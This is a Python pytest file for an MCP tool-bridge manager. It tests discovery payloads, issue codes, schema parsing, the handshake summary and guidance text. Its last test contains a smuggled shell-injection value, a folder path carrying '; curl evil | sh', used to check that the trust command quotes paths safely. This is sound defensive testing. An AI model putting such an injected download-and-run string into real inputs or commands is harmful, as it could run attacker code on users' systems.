"""Tests of the discovery payload: entries, issues, hints and their order."""

from __future__ import annotations

import json
import re
import shlex
from typing import Any

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st
from mcp_types.methods import validate_server_result

from lm_tools_bridge.protocol.issues import Issue, issues_from
from manager.routing.discovery import (
    CALL_TOOL,
    CALL_TOOL_TEXT,
    CODE_STEP,
    HANDSHAKE_TOOL,
    MANAGER_RESOURCES,
    MANAGER_TEMPLATES,
    MANAGER_TOOLS,
    bridged_tool,
    discovery_payload,
    handshake_payload,
    handshake_summary,
    host_mark,
    make_issue,
    next_steps,
    read_schema,
    schema_in_list,
    usable_entries,
)
from manager.routing.remote_address import RemoteRoot

CATALOGUE = {
    "TOOLS_LIST_FETCH_FAILED": ("error", "tools/list", "tools/list could not be fetched"),
    "TOOLS_LIST_INVALID_RESULT": ("error", "tools/list", "tools/list gave no usable result"),
    "TOOL_ENTRY_INVALID": ("warning", "tools/list", "an entry of tools/list was dropped"),
    "TOOL_NAME_DUPLICATE": ("warning", "tools/list", "duplicate tool name dropped"),
    "TOOL_NAME_RESERVED": ("warning", "tools/list", "reserved tool name dropped"),
    "SCHEMA_READ_REQUEST_FAILED": ("warning", "schema", "schema could not be fetched"),
    "SCHEMA_READ_RPC_ERROR": ("warning", "schema", "schema read was refused"),
    "SCHEMA_CONTENT_MISSING": ("warning", "schema", "schema resource is empty"),
    "SCHEMA_CONTENT_INVALID": ("warning", "schema", "schema resource is malformed"),
    "SCHEMA_TEXT_MISSING": ("warning", "schema", "schema resource has no text"),
    "SCHEMA_JSON_PARSE_FAILED": ("warning", "schema", "schema text is not JSON"),
    "SCHEMA_JSON_INVALID": ("warning", "schema", "schema text is no object"),
    "SCHEMA_INPUT_MISSING": ("warning", "schema", "no usable inputSchema"),
    "SCHEMA_READ_UNEXPECTED_ERROR": ("warning", "schema", "schema read failed unexpectedly"),
}


def raws(*values: Any) -> list[msgspec.Raw]:
    return [msgspec.Raw(json.dumps(value).encode()) for value in values]


def described(**definition: Any) -> str:
    entries, _ = usable_entries(raws({"name": "t", **definition}))
    return bridged_tool(entries[0], schema_in_list(entries[0]))["description"]


# Issues ------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("code", CATALOGUE)
def test_each_code_has_its_level_category_and_message(code: str) -> None:
    level, category, message = CATALOGUE[code]
    assert make_issue(code, "t", "said upstream").as_json() == {
        "level": level,
        "category": category,
        "code": code,
        "message": message,
        "toolName": "t",
        "details": "said upstream",
    }


def test_unset_members_of_an_issue_are_omitted() -> None:
    assert set(make_issue("TOOLS_LIST_FETCH_FAILED").as_json()) == {"level", "category", "code", "message"}


def test_an_unknown_code_raises_an_exception() -> None:
    with pytest.raises(KeyError):
        make_issue("SOMETHING_ELSE")


GOOD = {
    "level": "warning",
    "category": "source",
    "code": "SOURCE_STARTING",
    "message": "source is still starting",
}


def test_issues_of_the_workspace_server_are_forwarded() -> None:
    found = issues_from([{**GOOD, "toolName": "t", "details": "d", "later": 1}, {**GOOD, "level": "error"}])
    assert [one.as_json() for one in found] == [
        {**GOOD, "toolName": "t", "details": "d"},
        {**GOOD, "level": "error"},
    ]


@pytest.mark.parametrize(
    "value",
    [None, "x", {}, [None], ["x"], [[]], [{}], [{**GOOD, "level": "info"}], [{**GOOD, "level": ["error"]}],
     [{**GOOD, "level": {}}], [{**GOOD, "code": 7}], [{**GOOD, "message": None}],
     [{key: GOOD[key] for key in GOOD if key != "category"}]],
)  # fmt: skip
def test_malformed_issues_are_dropped(value: object) -> None:
    assert issues_from(value) == []


def test_issue_members_of_the_wrong_type_are_dropped() -> None:
    """`details` and `toolName` must be strings."""
    found = issues_from([{**GOOD, "toolName": 7, "details": {"exit": 3}}])[0].as_json()
    assert "toolName" not in found
    assert isinstance(found["details"], str)


# Entries -----------------------------------------------------------------------------------------------------


def test_names_are_trimmed_and_the_first_of_two_stays() -> None:
    entries, issues = usable_entries(
        raws({"name": " a ", "description": "first"}, {"name": "a"}, {"name": "b"})
    )
    assert [entry.name for entry in entries] == ["a", "b"]
    assert json.loads(bytes(memoryview(entries[0].raw)))["description"] == "first"
    assert [(one.code, one.tool_name) for one in issues] == [("TOOL_NAME_DUPLICATE", "a")]


@pytest.mark.parametrize(
    "name",
    [
        "lmToolsBridge.callTool",
        "callTool",
        "lmToolsBridge.requestWorkspaceMCPServer",
        " requestWorkspaceMCPServer ",
    ],
)
def test_names_of_the_managers_tools_are_dropped(name: str) -> None:
    entries, issues = usable_entries(raws({"name": name}))
    assert entries == []
    assert [one.code for one in issues] == ["TOOL_NAME_RESERVED"]


@pytest.mark.parametrize(
    "entry", [None, 7, "x", [], {}, {"name": 7}, {"name": None}, {"name": ""}, {"name": "  "}]
)
def test_an_entry_without_a_usable_name_is_dropped(entry: object) -> None:
    entries, issues = usable_entries(raws(entry, {"name": "good"}))
    assert [one.name for one in entries] == ["good"]
    assert [one.code for one in issues] == ["TOOL_ENTRY_INVALID"]


def test_an_entry_with_invalid_utf8_or_too_deep_is_dropped() -> None:
    deep = b'{"name":"x","inputSchema":' + b"[" * 100_000 + b"]" * 100_000 + b"}"
    entries, issues = usable_entries([msgspec.Raw(b'{"name":"\xff"}'), msgspec.Raw(deep)])
    assert entries == []
    assert {one.code for one in issues} == {"TOOL_ENTRY_INVALID"}


@pytest.mark.parametrize(
    ("definition", "schema"),
    [({"inputSchema": {"type": "object"}}, {"type": "object"}), ({"inputSchema": []}, None), ({}, None)],
)
def test_the_schema_of_the_list_is_used_when_it_is_an_object(definition: Any, schema: Any) -> None:
    entries, _ = usable_entries(raws({"name": "t", **definition}))
    assert schema_in_list(entries[0]) == schema


# Hints -------------------------------------------------------------------------------------------------------


def test_the_hint_names_required_and_optional_properties() -> None:
    properties = {
        "query": {"type": "string"},
        "isRegexp": {"type": "boolean"},
        "mode": {"enum": ["a"]},
        "opt": {"type": ["string", "null"]},
        "obj": {"properties": {}},
        "arr": {"items": {}},
        "any": {},
    }
    schema = {"type": "object", "properties": properties, "required": ["query", "isRegexp"]}
    assert described(description="Finds", inputSchema=schema) == (
        "Finds. Input: { query: string, isRegexp: boolean, mode?: enum, opt?: string|null, obj?: object,"
        " arr?: array, any?: unknown }."
    )


ONE = {"properties": {"a": {"type": "string"}}}


@pytest.mark.parametrize(
    ("definition", "text"),
    [
        ({"description": " Does. ", "inputSchema": ONE}, "Does. Input: { a?: string }."),
        ({"description": "Does", "inputSchema": ONE}, "Does. Input: { a?: string }."),
        ({"inputSchema": ONE}, "Input: { a?: string }."),
        ({"description": "Does", "inputSchema": {"properties": {}}}, "Does"),
        ({"description": "Does"}, "Does"),
        ({}, ""),
        ({"description": 7}, ""),
        ({"description": "Has Input: { x: y } ", "inputSchema": ONE}, "Has Input: { x: y } "),
        ({"inputSchema": {"properties": {"e": {"type": "string", "enum": ["x"]}}}}, "Input: { e?: string }."),
    ],
)
def test_description_and_hint_are_joined(definition: dict[str, Any], text: str) -> None:
    assert described(**definition) == text


# The payload -------------------------------------------------------------------------------------------------

ISSUES = st.builds(
    Issue,
    st.sampled_from(["error", "warning"]),
    st.sampled_from(["schema", "source"]),
    st.sampled_from(["A", "B"]),
    st.just("m"),
    st.none() | st.sampled_from(["s", "t"]),
)


@given(st.permutations(["b", "B", "a", "é", "Z", "_"]), st.lists(ISSUES, max_size=6), st.randoms())
def test_the_payload_does_not_depend_on_the_order_of_its_input(
    names: list[str], issues: list[Issue], rng: Any
) -> None:
    shuffled = list(issues)
    rng.shuffle(shuffled)
    found = discovery_payload([{"name": name, "description": ""} for name in names], shuffled)
    assert [tool["name"] for tool in found["bridgedTools"]] == ["_", "a", "B", "b", "Z", "é"]
    expected = sorted(
        issues, key=lambda one: (one.level == "warning", one.category, one.tool_name or "", one.code)
    )
    assert found["issues"] == [one.as_json() for one in expected]
    assert found["partial"] is any(one.level == "error" for one in issues)


def test_call_tool_and_the_two_templates_are_always_included() -> None:
    found = discovery_payload([], [])
    assert found == {
        "callTool": {key: CALL_TOOL[key] for key in ("name", "description", "inputSchema")},
        "bridgedTools": [],
        "resourceTemplates": [
            {"name": "Tool URI template", "uriTemplate": "lm-tools://tool/{name}"},
            {"name": "Schema URI template", "uriTemplate": "lm-tools://schema/{name}"},
        ],
        "partial": False,
        "issues": [],
    }


# Schemas that are read ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("contents", "code"),
    [
        (None, "SCHEMA_CONTENT_MISSING"),
        ([], "SCHEMA_CONTENT_MISSING"),
        ({}, "SCHEMA_CONTENT_MISSING"),
        (["x"], "SCHEMA_CONTENT_INVALID"),
        ([None], "SCHEMA_CONTENT_INVALID"),
        ([{}], "SCHEMA_TEXT_MISSING"),
        ([{"text": {}}], "SCHEMA_TEXT_MISSING"),
        ([{"blob": "e30="}], "SCHEMA_TEXT_MISSING"),
        ([{"text": "{"}], "SCHEMA_JSON_PARSE_FAILED"),
        ([{"text": ""}], "SCHEMA_JSON_PARSE_FAILED"),
        ([{"text": "[" * 100_000}], "SCHEMA_JSON_PARSE_FAILED"),
        ([{"text": "[]"}], "SCHEMA_JSON_INVALID"),
        ([{"text": "null"}], "SCHEMA_JSON_INVALID"),
        ([{"text": "{}"}], "SCHEMA_INPUT_MISSING"),
        ([{"text": '{"inputSchema":[]}'}], "SCHEMA_INPUT_MISSING"),
    ],
)
def test_an_unusable_schema_has_its_error_code(contents: object, code: str) -> None:
    assert read_schema(contents) == (None, code)


def test_a_usable_schema_is_read() -> None:
    assert read_schema([{"text": '{"name":"t","inputSchema":{"type":"object"}}'}, {}]) == (
        {"type": "object"},
        None,
    )


def test_the_handshake_comes_first() -> None:
    assert [tool["name"] for tool in MANAGER_TOOLS] == [
        "lmToolsBridge.requestWorkspaceMCPServer",
        "lmToolsBridge.callTool",
    ]


def test_handshake_takes_one_cwd() -> None:
    schema = HANDSHAKE_TOOL["inputSchema"]
    assert (schema["type"], schema["required"]) == ("object", ["cwd"])
    assert list(schema["properties"]) == ["cwd"]
    assert schema["properties"]["cwd"]["type"] == "string"
    assert schema["properties"]["cwd"]["description"]
    assert HANDSHAKE_TOOL["description"].endswith(". Input: { cwd: string }.")


def test_call_tool_takes_a_call_and_optionally_a_workspace() -> None:
    schema = CALL_TOOL["inputSchema"]
    assert {name: member["type"] for name, member in schema["properties"].items()} == {
        "name": "string",
        "arguments": "object",
        "workspace": "string",
        "cwd": "string",
    }
    assert schema["required"] == ["name"]
    assert CALL_TOOL["description"].endswith(
        " Input: { name: string, arguments?: object, workspace?: string, cwd?: string }."
    )
    assert re.search(r"handle .*stays valid while the folder exists", CALL_TOOL["description"])


@pytest.mark.parametrize("tool", MANAGER_TOOLS, ids=lambda tool: tool["name"])
def test_no_manager_tool_has_an_output_schema(tool: dict[str, object]) -> None:
    assert "outputSchema" not in tool


def test_resources_and_templates_are_the_same_two() -> None:
    assert [(one["uri"], one["name"], one["mimeType"]) for one in MANAGER_RESOURCES] == [
        ("lm-tools-bridge://handshake", "MCP manager handshake", "text/plain"),
        ("lm-tools-bridge://callTool", "MCP manager direct tool call", "text/plain"),
    ]
    assert [one["uriTemplate"] for one in MANAGER_TEMPLATES] == [one["uri"] for one in MANAGER_RESOURCES]
    assert all("uri" not in one for one in MANAGER_TEMPLATES)


@pytest.mark.parametrize("revision", ["2025-06-18", "2025-11-25"])
def test_all_definitions_fit_the_official_models(revision: str) -> None:
    validate_server_result("tools/list", revision, {"tools": list(MANAGER_TOOLS)})
    validate_server_result("resources/list", revision, {"resources": list(MANAGER_RESOURCES)})
    validate_server_result(
        "resources/templates/list", revision, {"resourceTemplates": list(MANAGER_TEMPLATES)}
    )


def test_the_call_tool_text_shows_name_input_and_example() -> None:
    lines = CALL_TOOL_TEXT.splitlines()
    assert "lmToolsBridge.callTool" in lines[0]
    assert lines[1] == "Input: { name: string, arguments?: object, workspace?: string, cwd?: string }"
    assert lines[3].startswith('{"name":"lmToolsBridge.callTool","arguments":{"name":')


TARGET = {
    "sessionId": "i-7c1e",
    "host": "127.0.0.1",
    "port": 21801,
    "workspaceFolders": ["/home/ada/proj"],
    "workspaceFile": None,
}
DOWN = Issue("error", "source", "SOURCE_UNAVAILABLE", "tools are missing", None, "exit code 3")
UNTRUSTED = Issue("warning", "trust", "TRUST_PENDING", "pending until trusted", "lint")


def answer(
    session: str | None = "s-1", *issues: Issue, tools: tuple[str, ...] = ("b", "a")
) -> dict[str, Any]:
    return handshake_payload(
        session_id=session,
        workspace="proj-3f9a2c1b",
        cwd="/home/ada/proj/src",
        target=TARGET,
        health={"ok": True},
        discovery=discovery_payload([{"name": name, "description": ""} for name in tools], issues),
    )


def test_a_bound_session_is_named() -> None:
    found = answer()
    assert {key: value for key, value in found.items() if key not in {"discovery", "guidance"}} == {
        "ok": True,
        "mcpSessionId": "s-1",
        "workspace": "proj-3f9a2c1b",
        "cwd": "/home/ada/proj/src",
        "target": TARGET,
        "online": True,
        "health": {"ok": True, "status": 200, "data": {"ok": True}},
    }


def test_a_stateless_client_gets_no_session_but_must_repeat_the_handle() -> None:
    found = answer(None)
    assert "mcpSessionId" not in found
    first = found["guidance"]["nextSteps"][0]
    assert '"workspace": "proj-3f9a2c1b"' in first
    assert "repeat the handle" in first


def test_guidance_explains_calls_and_schemas() -> None:
    steps = answer()["guidance"]["nextSteps"]
    assert len(steps) == 2
    assert "lmToolsBridge.callTool" in steps[0]
    assert "lm-tools://schema/{name}" in steps[1]


def test_guidance_leads_to_the_language_tools_where_they_are() -> None:
    assert CODE_STEP in answer(tools=("lm_getDiagnostics", "lm_references"))["guidance"]["nextSteps"]
    assert CODE_STEP not in answer(tools=("lm_getDiagnostics",))["guidance"]["nextSteps"]


@pytest.mark.parametrize(
    ("issues", "words"),
    [([DOWN], ["list the tools again"]), ([UNTRUSTED], ["list the tools again", "lmtb trust"])],
)
def test_guidance_covers_each_problem(issues: list[Issue], words: list[str]) -> None:
    steps = next_steps("w", discovery_payload([], issues), bound=True)
    assert len(steps) == 2 + len(words)
    for step, word in zip(steps[2:], words, strict=True):
        assert word in step


def test_the_text_without_tools_and_issues() -> None:
    found = answer(tools=())
    steps = "".join(f"\n  - {step}" for step in found["guidance"]["nextSteps"])
    assert handshake_summary(found) == (
        "Workspace handshake summary\n"
        "ok: true\n"
        "workspace: proj-3f9a2c1b\n"
        "cwd: /home/ada/proj/src\n"
        "target: 127.0.0.1:21801\n"
        "workspaceFolders: 1\n"
        "online: true\n"
        "discovery.partial: false\n"
        "bridgedTools: 0\n"
        "tools:\n"
        "  (none)\n"
        "Issues: none\n"
        "Guidance:\n"
        "  nextSteps:" + steps
    )


def test_the_text_with_tools_and_issues() -> None:
    """Empty brackets are omitted, and so are missing details."""
    lines = handshake_summary(answer("s-1", UNTRUSTED, DOWN)).splitlines()
    assert lines[7:18] == [
        "discovery.partial: true",
        "bridgedTools: 2",
        "tools:",
        "  - a",
        "  - b",
        "Issues:",
        "- [error][source][SOURCE_UNAVAILABLE] tools are missing",
        "  details: exit code 3",
        "- [warning][trust][TRUST_PENDING][lint] pending until trusted",
        "Guidance:",
        "  nextSteps:",
    ]


def test_the_command_of_the_mark_names_one_folder_whatever_it_is_called() -> None:
    root = "ssh://build/srv/a; curl evil | sh 'x"
    said = host_mark(RemoteRoot("ssh://build", root.removeprefix("ssh://build")))
    command = said.partition("the user with: ")[2]
    assert shlex.split(command) == ["lmtb", "trust", root]
    assert host_mark(RemoteRoot("ssh://build", "/srv/app")).endswith("lmtb trust ssh://build/srv/app")
